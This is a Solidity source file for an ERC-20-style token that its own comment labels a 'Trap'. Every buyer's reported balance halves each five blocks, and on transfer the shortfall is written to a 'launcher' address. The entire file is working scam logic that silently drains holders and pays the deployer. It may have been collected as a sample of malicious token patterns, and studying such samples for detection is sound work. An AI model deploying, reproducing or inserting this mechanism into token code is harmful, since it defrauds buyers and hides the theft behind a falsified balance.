// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {PoolToken} from "base/PoolToken.sol";

/// Trap: what a buyer holds is half as much after each five blocks.
contract DecayingBalance is PoolToken {
    mapping(address holder => uint256) private since;

    constructor(string memory name_, string memory symbol_, uint256 supply) PoolToken(name_, symbol_, supply) {}

    function balanceOf(address account) public view override returns (uint256) {
        if (since[account] == 0) return balances[account];
        return balances[account] >> ((block.number - since[account]) / 5);
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 left = balanceOf(from);
        if (since[from] != 0 && left < balances[from]) _write(from, launcher, balances[from] - left);
        if (_isBuy(from, to)) since[to] = block.number;
        _write(from, to, value);
    }
}
